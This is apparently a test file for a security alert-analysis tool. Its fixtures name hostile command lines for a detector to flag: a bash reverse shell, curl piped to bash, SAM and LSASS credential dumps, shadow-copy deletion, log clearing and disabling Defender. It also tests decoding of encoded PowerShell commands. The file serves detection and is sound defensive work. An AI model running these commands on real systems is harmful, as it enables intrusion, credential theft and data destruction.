import fc from 'fast-check';
import { describe, expect, it } from 'vitest';
import { decodeCommand } from '../../../src/analysis/decode-command.ts';
import { findFacts } from '../../../src/analysis/facts.ts';
import {
  borrowsSystemName,
  isProtectedFolder,
  isUserWritable,
  managementProduct,
} from '../../../src/analysis/known-programs.ts';
import { placeOfAddress, placeOfHost, urlHosts } from '../../../src/analysis/network-place.ts';
import { alertWith, documentAttack, eventWith, managementInventory } from './scripted-ports.ts';

const idsOf = (fields: Record<string, string | number>) =>
  findFacts(alertWith(fields), []).facts.map((fact) => fact.id);
const commandIds = (command: string, more: Record<string, string> = {}) =>
  idsOf({ 'process.command_line': command, ...more });

describe('findFacts', () => {
  it('tells an encoded download from an encoded inventory', () => {
    const attack = documentAttack();
    expect(findFacts(attack.alert, attack.events).facts.map((fact) => fact.id)).toEqual(
      expect.arrayContaining([
        'started_by_document',
        'hidden_window',
        'runs_text_as_code',
        'encoded_command',
        'names_outside_address',
        'near_connects_outside',
      ]),
    );
    const work = managementInventory();
    const facts = findFacts(work.alert, work.events).facts;
    expect(facts.map((fact) => fact.id)).toEqual(
      expect.arrayContaining(['started_by_management', 'encoded_but_plain']),
    );
    expect(facts.filter((fact) => fact.side === 'attack')).toEqual([]);
  });

  it.each([
    ['vssadmin delete shadows /all /quiet', 'destroys_recovery'],
    ['wevtutil cl Security', 'clears_traces'],
    ['reg save HKLM\\SAM C:\\Windows\\Temp\\s.sav', 'dumps_credentials'],
    ['rundll32.exe C:\\Windows\\System32\\comsvcs.dll, MiniDump 624 C:\\x.dmp full', 'dumps_credentials'],
    ['certutil -urlcache -split -f http://198.51.100.23/p.txt p.exe', 'downloads_file'],
    ['bash -c bash -i >& /dev/tcp/198.51.100.7/4444 0>&1', 'reverse_shell'],
    ['sh -c curl -s http://203.0.113.61/i.sh | bash', 'runs_text_as_code'],
    ['schtasks /create /tn x /tr "C:\\Users\\Public\\od.exe" /sc minute', 'keeps_itself_running'],
    ['powershell Set-MpPreference -DisableRealtimeMonitoring $true', 'stops_protection'],
    ['net localgroup administrators evil /add', 'adds_account'],
    ['wmic /node:10.1.1.5 process call create "cmd /c x"', 'reaches_other_host'],
    ['cmd.exe /Q /c cd \\ 1> \\\\127.0.0.1\\ADMIN$\\__1 2>&1', 'smbexec_trace'],
    ['regsvr32 /s /u /i:http://203.0.113.1/f.sct scrobj.dll', 'proxy_execution'],
    ['nltest /domain_trusts', 'looks_around'],
  ])('sees in %s: %s', (command, id) => {
    expect(commandIds(command)).toContain(id);
  });

  it.each([
    ['vssadmin create shadow /for=D:', 'makes_backup'],
    ['msiexec /i \\\\deploy01\\pkg\\7zip.msi /qn', 'installs_software'],
    ['systemctl restart tomcat9', 'routine_administration'],
    ['rsync -a /srv backup01:/pool', 'makes_backup'],
  ])('sees ordinary work in %s and no attack', (command, id) => {
    const facts = findFacts(alertWith({ 'process.command_line': command }), []).facts;
    expect(facts.map((fact) => fact.id)).toContain(id);
    expect(facts.filter((fact) => fact.side === 'attack')).toEqual([]);
  });

  it('reads facts of records that have no command line', () => {
    const record = (action: string, fields: Record<string, string> = {}) => {
      const alert = alertWith(fields);
      return findFacts(alert, [eventWith(alert.id, 0, { category: 'iam', action, fields })]).facts.map(
        (fact) => fact.id,
      );
    };
    expect(record('audit-log-cleared')).toContain('clears_traces');
    expect(record('added-member-to-group', { 'group.name': 'Domain Admins' })).toContain('adds_account');
    expect(record('added-member-to-group', { 'group.name': 'Sales' })).not.toContain('adds_account');
  });

  it('counts attack signs of the context only where they hang together with the alert', () => {
    const alert = alertWith({
      'process.executable': 'C:\\Windows\\System32\\cmd.exe',
      'process.entity_id': 'a',
      'process.parent.entity_id': 'b',
      'process.parent.executable': 'C:\\x\\y.exe',
      'user.name': 'SYSTEM',
    });
    const near = (fields: Record<string, string>) =>
      findFacts(alert, [
        eventWith(5, 1, {
          fields: { 'process.command_line': 'wevtutil cl Security', 'user.name': 'SYSTEM', ...fields },
        }),
      ]).facts.map((fact) => fact.id);
    expect(near({ 'process.entity_id': 'z', 'process.parent.entity_id': 'a' })).toContain('near_clears_traces');
    expect(near({ 'process.entity_id': 'z', 'process.parent.entity_id': 'q' })).not.toContain('near_clears_traces');
  });

  it('never throws, and ends on texts made to send expressions backtracking (the time limit of the run is the check)', () => {
    const anywhere = (text: string) => ({
      'process.command_line': text,
      'process.executable': text,
      'process.parent.executable': text,
      'file.path': text,
      'registry.path': text,
      'destination.ip': text,
      'user.name': text,
    });
    fc.assert(
      fc.property(fc.string({ unit: 'binary', maxLength: 5000 }), (text) => {
        expect(Array.isArray(idsOf(anywhere(text)))).toBe(true);
      }),
      { numRuns: 60 },
    );
    const repeated = ['net ', '\\', 'a/', 'curl -o ', '$env:', '| base64 -d ', '"C:\\x'].map((piece) =>
      piece.repeat(6000),
    );
    for (const text of [...repeated, `schtasks /create ${'a '.repeat(5000)}`, `reg add ${'x'.repeat(9000)}`])
      expect(Array.isArray(idsOf(anywhere(text)))).toBe(true);
  });
});

describe('decodeCommand', () => {
  const wide = (text: string) => Buffer.from(text, 'utf16le').toString('base64');
  it.each([
    [`powershell -enc ${wide('Get-Process | Out-File x')}`, 'Get-Process | Out-File x'],
    [`powershell.exe -NoP -EncodedCommand "${wide('whoami /all')}"`, 'whoami /all'],
    [`powershell -e ${wide('안녕하세요 관리자')}`, '안녕하세요 관리자'],
    [
      `echo ${Buffer.from('curl http://203.0.113.9/x | sh').toString('base64')} | base64 -d | sh`,
      'curl http://203.0.113.9/x | sh',
    ],
  ])('decodes %s', (command, text) => {
    expect(decodeCommand(command)).toBe(text);
  });
  it('finds nothing where nothing is encoded', () => {
    for (const command of ['powershell -ExecutionPolicy Bypass -File C:\\a.ps1', 'powershell -enc AAAA', 'cmd /c dir'])
      expect(decodeCommand(command)).toBeNull();
  });
});

describe('places', () => {
  it.each([
    ['10.1.2.3', 'inside'],
    ['172.31.0.1', 'inside'],
    ['172.32.0.1', 'outside'],
    ['192.168.0.9', 'inside'],
    ['100.64.0.1', 'inside'],
    ['203.0.113.5', 'outside'],
    ['127.0.0.1', 'local'],
    ['239.1.1.1', 'local'],
    ['::1', 'local'],
    ['fe80::1%2', 'inside'],
    ['fd00::5', 'inside'],
    ['2001:db8::1', 'outside'],
    ['::ffff:10.0.0.1', 'inside'],
    ['999.1.1.1', 'unknown'],
    ['', 'unknown'],
  ])('%s is %s', (address, place) => {
    expect(placeOfAddress(address)).toBe(place);
  });
  it('judges host names and finds those of URLs', () => {
    expect([
      placeOfHost('deploy01'),
      placeOfHost('nexus.corp.local'),
      placeOfHost('cdn.example.com'),
      placeOfHost('localhost'),
    ]).toEqual(['inside', 'inside', 'outside', 'local']);
    expect(
      urlHosts("IEX(New-Object Net.WebClient).DownloadString('http://203.0.113.45:8080/a') https://[2001:db8::1]/x"),
    ).toEqual(['203.0.113.45', '[2001:db8::1]']);
  });
  it.each([
    ['C:\\Users\\Public\\x.exe', true],
    ['C:\\Users\\kim\\AppData\\Local\\Temp\\a.ps1', true],
    ['C:\\Windows\\Temp\\a.exe', true],
    ['/tmp/x', true],
    ['/dev/shm/k', true],
    ['C:\\ProgramData\\svc.exe', true],
    ['C:\\Program Files\\App\\a.exe', false],
    ['C:\\Windows\\System32\\cmd.exe', false],
    ['/usr/bin/python3', false],
    ['', false],
  ])('%s writable by users: %s', (path, writable) => {
    expect(isUserWritable(path)).toBe(writable);
  });
  it('trusts a product name only in a protected folder', () => {
    expect(managementProduct('C:\\Program Files\\AhnLab\\V3IS90\\V3Medic.exe')).toBe('Korean security product');
    expect(managementProduct('C:\\Users\\Public\\AhnLab\\V3IS90\\V3Medic.exe')).toBeNull();
    expect(managementProduct('/usr/bin/dpkg')).toBe('system update or management');
    expect(managementProduct('/tmp/dpkg')).toBeNull();
    expect(isProtectedFolder('C:\\Windows\\Temp\\x.exe')).toBe(false);
    expect(borrowsSystemName('C:\\ProgramData\\svchost.exe')).toBe(true);
    expect(borrowsSystemName('C:\\Windows\\System32\\svchost.exe')).toBe(false);
  });
});
